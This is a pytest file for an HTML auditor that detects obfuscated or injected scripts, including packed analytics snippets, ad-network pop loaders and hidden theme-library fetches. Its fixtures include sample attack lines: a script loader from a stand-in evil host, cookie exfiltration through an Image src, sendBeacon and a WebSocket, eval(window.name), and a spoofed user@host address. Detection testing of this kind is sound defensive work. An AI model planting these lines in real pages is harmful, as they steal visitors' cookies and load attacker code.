    bare = [f.severity for f in audit_html(_theme_library_page(
        head="", words=_ANSWER_WORDS, library=library), url=url).findings
        if f.kind == "obfuscated-script"]
    built = audit_html(_theme_library_page(words=_ANSWER_WORDS, library=library), url=url)
    assert bare == [M]
    assert [f.severity for f in built.findings if f.kind == "obfuscated-script"] == (
        [] if vouched else bare), built.findings


@pytest.mark.parametrize(("markup", "script_attrs", "attr", "vouched"), [
    # the address in a `data-` attribute the injector also writes into the markup
    ("<div class='harbourline-block' data-feed='https://payload-kit.example/p'></div>", "",
     "data-feed", False),
    # the address on the script element itself, read through document.currentScript
    (THEME_MARKUP, " data-feed='https://payload-kit.example/p'", "data-feed", False),
    # the scheme in capitals, or left out (`//host/…`)
    ("<div class='harbourline-block' data-feed=' HTTPS://Payload-Kit.example/p'></div>", "",
     "data-feed", False),
    ("<div class='harbourline-block' data-feed='//payload-kit.example/p'></div>", "",
     "data-feed", False),
    # an attribute of no meaning in HTML, on the markup or the script tag, read by name
    # (was vouched for: only `data-` attributes were asked)
    ("<div class='harbourline-block' feed-src='https://payload-kit.example/p'></div>", "",
     "feed-src", False),
    (THEME_MARKUP, " pl='https://payload-kit.example/p'", "pl", False),
    # the site's own address handed so, or another site's in an attribute the code never
    # reads (nor in an attribute HTML gives a meaning: a link's href): the theme's library
    # loading its next posts, vouched for as before
    ("<div class='harbourline-block' data-feed='https://harbour.example/page/2'></div>", "",
     "data-feed", True),
    ("<div class='harbourline-block' data-feed='/page/2' "
     "data-share='https://social-kit.example/s'></div>", "", "data-feed", True),
    ("<div class='harbourline-block' data-feed='/page/2'><a href='https://social-kit.example/s'>"
     "s</a></div>", "", "data-feed", True),
], ids=["data attribute", "own script's attribute", "capitals", "no scheme",
        "custom attribute", "custom attribute of the script", "own address",
        "attribute not read", "a link's href"])
def test_a_library_fetching_an_address_the_markup_hands_it_is_not_vouched_for(
        audit_html: AuditHtml, markup: str, script_attrs: str, attr: str, vouched: bool
) -> None:
    """The build's vouching holds for a request whose address the page's own code points it
    at; an injector in a plugin folder that writes another site's address into an attribute
    (a `data-` one or one of no meaning in HTML, of the markup or of its own script tag) and
    requests it from code that names no address is no theme library, whatever it does with
    the answer (here: keeps it as data; set as markup, the answer voids the vouching itself)."""
    words = [*THEME_WORDS, "querySelector", f"[{attr}]", "getAttribute", attr,
             "fetch", "then", "text", "innerHTML", "currentScript"]
    n = len(THEME_WORDS)
    more = (f"var e=document[{_at(n + 8)}]||document[{_at(n)}]({_at(n + 1)}),b=document["
            f"{_at(n)}]('.harbourline-block');w[{_at(n + 4)}](e[{_at(n + 2)}]({_at(n + 3)}))"
            f"[{_at(n + 5)}](function(r){{return r[{_at(n + 6)}]()}})[{_at(n + 5)}]("
            f"function(t){{w[{_at(0)}].n=t}});")
    code = obfuscated(words, THEME_LIBRARY + more)
    html = page(head=THEME_BUILD + f"<script{script_attrs}>{code}</script>", body=markup)
    report = audit_html(html, url=URL.replace("news.example", "harbour.example"))
    found = [f.severity for f in report.findings if f.kind == "obfuscated-script"]
    assert found == ([] if vouched else [M]), report.findings


@pytest.mark.parametrize(("tail", "vouched"), [
    # the answer of a fetch set as markup: where it goes is in the table no reader read
    (_COOKIE + _FETCHED + f"[{_at(_N + 2)}](function(t){{b[{_at(_N + 4)}]=t}});", False),
    # a request whose answer is kept as data, and no word that sets markup anywhere
    (f"var b=document[{_at(_N + 5)}]('.harbourline-block');" + _FETCHED.replace("(u)", "('/p')")
     + f"[{_at(_N + 2)}](function(t){{w[{_at(0)}].n=t}});", True),
], ids=["fetch then markup", "answer read as data"])
def test_a_library_whose_table_is_not_read_is_vouched_for_only_without_markup_words(
        audit_html: AuditHtml, tail: str, vouched: bool) -> None:
    """The build vouches for a request only where it read what the code does with the
    answer: a table whose rotation no reader reads leaves that unread, so code holding a
    request and a word that sets markup (`innerHTML` in its table) keeps the finding it has
    without the build (it was vouched for: the markup test ran only on a resolved table);
    without such a word the answer cannot become markup, and the vouching holds."""
    url = URL.replace("news.example", "harbour.example")
    library = THEME_LIBRARY + tail
    words = [("dataset" if vouched and "HTML" in w else w) for w in _ANSWER_WORDS]
    # the rotation's count written so no reader reads it (computed at run time)
    code = obfuscated(words, library).replace("0x1b7));", "0x1b7*1));")
    assert resolved(code) is None and literal_reads(code) is None
    built = page(head=THEME_BUILD + f"<script>{code}</script>", body=THEME_MARKUP)
    bare = page(head=f"<script>{code}</script>", body=THEME_MARKUP)
    expected = [f.severity for f in audit_html(bare, url=url).findings
                if f.kind == "obfuscated-script"]
    assert expected == [M]
    found = [f.severity for f in audit_html(built, url=url).findings
             if f.kind == "obfuscated-script"]
    assert found == ([] if vouched else expected), found


def _minified(words: list[str], body: str) -> str:
    """javascript-obfuscator's current shape as terser minifies it (JNews' library): the
    table function returns `(t=function(){return e})()`, the accessor takes `e-=349`, the
    rotation loop reads the table in its head and writes its target in the test, and every
    function names the accessor by a letter of its own (`var n=_0x6b69`)."""
    written = words[-2:] + words[:-2]  # turned back by two; the checksum stops the loop there
    table = ",".join(json.dumps(w) for w in written)
    target = int(words[0].rstrip(ascii_letters)) + -int(words[1].rstrip(ascii_letters)) / 2
    return (f"function _0x22f1(){{var e=[{table}];return(_0x22f1=function(){{return e}})()}}"
            "var _0x53=_0x6b69;function _0x6b69(e,t){var n=_0x22f1();return(_0x6b69=function(e,"
            "t){return n[e-=349]})(e,t)}(function(e,t){for(var n=_0x6b69,r=_0x22f1();;)try{if("
            f"{target:g}===parseInt(n(349))/1+-parseInt(n(350))/2)break;r.push(r.shift())}}"
            "catch(e){r.push(r.shift())}})();" + body)


def test_a_minified_table_is_read_by_its_literal_calls() -> None:
    """Terser's form of the obfuscator's table (JNews ships its library so) is read: its
    rotation by the checksum in the loop's test, each call by a literal index answered,
    calls of the one-letter names each function reuses left (no table read at all before,
    so the vouching of the theme's library read nothing of what its code does)."""
    words = ["9142abc", "4016xyz", "fetch", "then", "querySelector", "innerHTML"]
    code = _minified(words, "!function(){var o=_0x53;document[o(353)]('.b')[o(354)];"
                            "w[o(351)](u)[o(352)](function(t){o(t)})}();")
    plain = literal_reads(code)
    assert plain is not None and "document['querySelector']('.b')['innerHTML']" in plain
    assert "w['fetch'](u)['then']" in plain
    assert resolved(code) is None  # `o(t)`: a call no literal names is left


# analytics.js's documented snippet (developers.google.com/analytics/devguides/collection/
# analyticsjs), with the script's address given
def _ga_snippet(src: str) -> str:
    return ("(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){"
            "(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),"
            "m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)"
            f"}})(window,document,'script','{src}','ga');"
            "ga('create','UA-7654321-1','auto');ga('send','pageview');")


_GA = "https://www.google-analytics.com/analytics.js"
_EVIL_LOADER = ("var e=document.createElement('script');e.src='https://cdn-evil-stat.example/"
                "t.js';document.head.appendChild(e);")


@pytest.mark.parametrize(("what", "code", "most"), [
    ("a packed GA snippet: the vendor's own code", _ga_snippet(_GA), M),
    # the snippet's shape loading another host, or the vendor's snippet with a payload beside
    ("the snippet's shape loading another host",
     _ga_snippet("https://cdn-evil-stat.example/analytics.js"), H),
    ("the vendor's snippet with a payload beside it", _ga_snippet(_GA) + _EVIL_LOADER, H),
    # the vendor's address alone, hidden with no snippet of its around it (a bait's)
    ("a bare hidden vendor address", _EVIL_LOADER.replace(
        "https://cdn-evil-stat.example/t.js", _GA), H),
    # the vendor's snippet beside a payload that loads no script: the visitor's cookie sent
    # to the injector's host by an image or a beacon, a socket to it
    ("the snippet with a cookie beacon", _ga_snippet(_GA)
     + "new Image().src='https://cdn-evil-stat.example/c?'+document.cookie;", H),
    ("the snippet with sendBeacon", _ga_snippet(_GA)
     + "navigator.sendBeacon('https://cdn-evil-stat.example/b', document.cookie);", H),
    ("the snippet with a socket", _ga_snippet(_GA)
     + "new WebSocket('wss://cdn-evil-stat.example/m');", H),
    # the vendor's host spoofed as an address's user part: the script is the injector's
    ("the vendor's host as a user part",
     _ga_snippet("https://www.google-analytics.com@cdn-evil-stat.example/analytics.js"), H),
    ("the snippet, protocol-relative", _ga_snippet("//www.google-analytics.com/analytics.js"),
     M),
    # two vendors' own snippets packed together: an ad platform's measuring pixel places no ad
    ("GA's and Facebook's pixel snippets", _ga_snippet(_GA)
     + "!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?"
     "n.callMethod.apply(n,arguments):n.queue.push(arguments)};if(!f._fbq)f._fbq=n;n.push=n;"
     "n.loaded=!0;n.version='2.0';n.queue=[];t=b.createElement(e);t.async=!0;t.src=v;"
     "s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,"
     "'script','https://connect.facebook.net/en_US/fbevents.js');"
     "fbq('init','123456789012345');fbq('track','PageView');", M),
    # the snippet beside code run from a string no address names (the window's name)
    ("the snippet with an eval", _ga_snippet(_GA) + "eval(window.name);", H),
    # an ad network's own snippet hidden: how an injector hides the account it earns for
    ("a hidden popunder tag", "var _pop=_pop||[];_pop.push(['siteId',1234567]);"
     "_pop.push(['minBid',0]);(function(){var pa=document.createElement('script');"
     "pa.async=true;pa.src='//c1.popads.net/pop.js';var s=document.getElementsByTagName("
     "'script')[0];s.parentNode.insertBefore(pa,s);})();", H),
    ("a hidden AdSense loader", "var s=document.createElement('script');s.async=true;"
     "s.src='https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js?client=ca-pub-"
     "1234567890123456';document.head.appendChild(s);(adsbygoogle=window.adsbygoogle||[])"
     ".push({google_ad_client:'ca-pub-1234567890123456',enable_page_level_ads:true});", H),
])
def test_hidden_code_that_is_a_vendors_own_snippet_is_checked_not_condemned(
        what: str, code: str, most: Severity, audit_html: AuditHtml) -> None:
    """A site that packs its stock GA snippet (medicalnewstoday's "GA Universal Code
    (obfuscated)") was `high`: what it decodes to is the vendor's documented snippet
    loading that vendor's script, `medium`, to check. Anything else it loads keeps it high."""
    from .test_obfuscation import packed

    found = _obfuscated(audit_html(page(head=f"<script>{packed(code)}</script>"), url=URL))
    assert [s for s, _ in found] == [most], (what, found)
    if most is M:
        assert "Google Analytics's own snippet" in found[0][1]


# HilltopAds' legacy pop tag (zone made up) and an anti-adblock pop loader after its form: a
# throwaway host's library and a `get_pop` route, handed the zone by `window.spot_code`
_HTA_ZONE = "2210588-2210649"


def _hta_pop_tag(zone: str) -> str:
    return ("<script>var __htapop = {window:{type:'popup'}}; var kq3v = \"\\/\\/hilltopads.net"
            f"\\/p?zoneId={zone}\"; document.write(\"<script type=\\\"text/javascript\\\" "
            "src=\\\"\"+kq3v+\"\\\"><\\/script>\");</script>")


def _pop_loader(zone: str) -> str:
    from .test_obfuscation import packed

    code = ("(function(){var b='//quillmarbleorchard.com/path/ads/ads.js';var s=document."
            "createElement('script');s.src=b;s.onload=function(){window.popLib.run({route:"
            "'get_pop',stid:20417,p1:window.spot_code})};document.body.appendChild(s)})();")
    return f"<script>window.spot_code = '{zone}'; {packed(code)}</script>"


@pytest.mark.parametrize(("what", "html", "most"), [
    # the page's own pop tag, then the packed loader handed its zone: the network's loader
    ("beside the page's pop tag, its zone",
     page(foot=_hta_pop_tag(_HTA_ZONE) + "\n" + _pop_loader(_HTA_ZONE)), M),
    ("beside the page's banner frame, its zone",
     page(foot="<aside><iframe src='https://hilltopads.net/ifr?zoneId=" + _HTA_ZONE + "' "
          "width='300' height='250'></iframe></aside>" + _pop_loader(_HTA_ZONE)), M),
    # the tag, or the loader, inside the article's body, where anyone's paste lands
    ("the frame inside the article",
     page(body="<iframe src='https://hilltopads.net/ifr?zoneId=" + _HTA_ZONE + "' width='300' "
          "height='250'></iframe>", foot=_pop_loader(_HTA_ZONE)), H),
    ("the loader inside the article",
     page(body=_pop_loader(_HTA_ZONE), foot=_hta_pop_tag(_HTA_ZONE)), H),
    # no tag of the network on the page, or one naming another zone: nothing vouches
    ("no HilltopAds tag", page(foot=_pop_loader(_HTA_ZONE)), H),
    ("a HilltopAds tag of another zone",
     page(foot=_hta_pop_tag("2210590-2210651") + "\n" + _pop_loader(_HTA_ZONE)), H),
    # the zone written in prose only, the loader beside
    ("the zone in prose", page(body=f"<p>Zone {_HTA_ZONE} pays best.</p>",
                               foot=_pop_loader(_HTA_ZONE)), H),
    # tag and loader appended after the page's </html>: an injector's, whoever's zone
    ("after </html>", page() + "\n" + _hta_pop_tag(_HTA_ZONE) + "\n"
     + _pop_loader(_HTA_ZONE), H),
])
def test_a_hidden_loader_carrying_the_zone_of_the_pages_own_network_is_checked(
        what: str, html: str, most: Severity, audit_html: AuditHtml) -> None:
    """blind46h (a torrent index): a packed anti-adblock pop loader on a throwaway host,
    handed the zone of the HilltopAds pop tag the page runs in plain sight, was `high`:
    the site chose HilltopAds and the code earns its zone, a check (`medium`). The same
    loader with no tag of that network, another zone, in an article's body or outside the
    page's markup stays `high`."""
    found = _obfuscated(audit_html(html, url=URL))
    assert [s for s, _ in found] == [most], (what, found)
    if most is M:
        assert f"hilltopads-zone {_HTA_ZONE}, which the page's own HilltopAds tags" in found[0][1]


@pytest.mark.parametrize(("html", "ids"), [
    # the packed loader beside the page's HilltopAds tag: the site ID its request object
    # carries beside the pop route, read from the unpacked code
    (page(foot=_hta_pop_tag(_HTA_ZONE) + "\n" + _pop_loader(_HTA_ZONE)), {"20417"}),
    # the same object written plainly, its ID quoted
    (page(foot=_hta_pop_tag(_HTA_ZONE) + "<script>window.popLib.run({route:'get_pop',"
          "stid:'20417',sbid:'1',p1:window.spot_code});</script>"), {"20417"}),
    # no HilltopAds tag on the page: the loader names no network's site
    (page(foot=_pop_loader(_HTA_ZONE)), set()),
    # another route's `stid`, the object in prose, the call commented out
    (page(foot=_hta_pop_tag(_HTA_ZONE) + "<script>feed.run({route:'get_feed',stid:20417});"
          "</script>"), set()),
    (page(body="<p>Its loader sends {route:'get_pop',stid:20417} to the data host.</p>",
          foot=_hta_pop_tag(_HTA_ZONE)), set()),
    (page(foot=_hta_pop_tag(_HTA_ZONE) + "<script>// popLib.run({route:'get_pop',stid:20417});"
          "\n</script>"), set()),
], ids=["packed", "plain", "no tag", "another route", "prose", "commented"])
def test_the_pop_loaders_site_id_is_read_from_its_request(
        html: str, ids: set[str], audit_html: AuditHtml) -> None:
    """blind46h: HilltopAds' anti-adblock pop loader, packed, sends its data host
    `{route:'get_pop',stid:'<site>',…,p1:window.spot_code}`; the site ID is read there
    only, where the page carries the network's tag."""
    report = audit_html(html, url=URL)
    assert {i.value for i in report.ids if i.kind == "hilltopads-site"} == ids
